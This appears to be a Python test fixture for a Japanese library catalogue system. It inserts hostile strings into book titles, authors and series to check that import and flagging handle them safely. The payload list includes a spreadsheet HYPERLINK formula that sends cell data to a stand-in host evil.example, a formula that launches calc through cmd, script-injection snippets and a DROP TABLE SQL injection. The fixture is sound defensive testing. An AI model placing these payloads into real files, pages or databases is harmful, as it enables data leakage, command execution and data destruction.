"""A small library whose titles, authors and series try to do harm, imported and flagged through the same doors."""

import csv
from pathlib import Path

from collection import demo, flag, imports, policy
from tests.small_store import PACK

OVERRIDE = "\u202e"
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"本")', "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>',
    f"表{OVERRIDE}みぎから", "途中\0で切れる", "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\t=1+1", "＝1＋1", "長" * 5000,
    "';DROP TABLE item;--", "[押す](javascript:alert(1)) **太字** $x$", "#set page(width: 1mm)", "{0.__class__}", "]]><![CDATA[x",
    "改行\nを含む", "a" * 3000,
)  # fmt: skip


def build(store: Path, files: Path) -> Path:
    """Fill `store`; every second record has one of HOSTILE before its title. Returns the flags file."""
    given = demo.write(files, 0.01, 1)
    [bibs] = [file for file in files.iterdir() if file.name == "bibs.csv"]
    with bibs.open(encoding="utf-8-sig", newline="") as source:
        head, *rows = list(csv.reader(source))
    title, author, series = (head.index(name) for name in ("書名", "著者名", "叢書名"))
    for number, row in enumerate(rows[::2]):
        text = HOSTILE[number % len(HOSTILE)]
        row[title] = f"{text}{row[title]}"
        row[author] = f"{text[:40]}{row[author]}"
        row[series] = text[:40]
    with bibs.open("w", encoding="utf-8", newline="") as target:
        csv.writer(target).writerows([head, *rows])
    imports.import_files(store, demo.AS_OF, given)
    return flag.flag(store, policy.load(PACK, demo.AS_OF), demo.AS_OF)
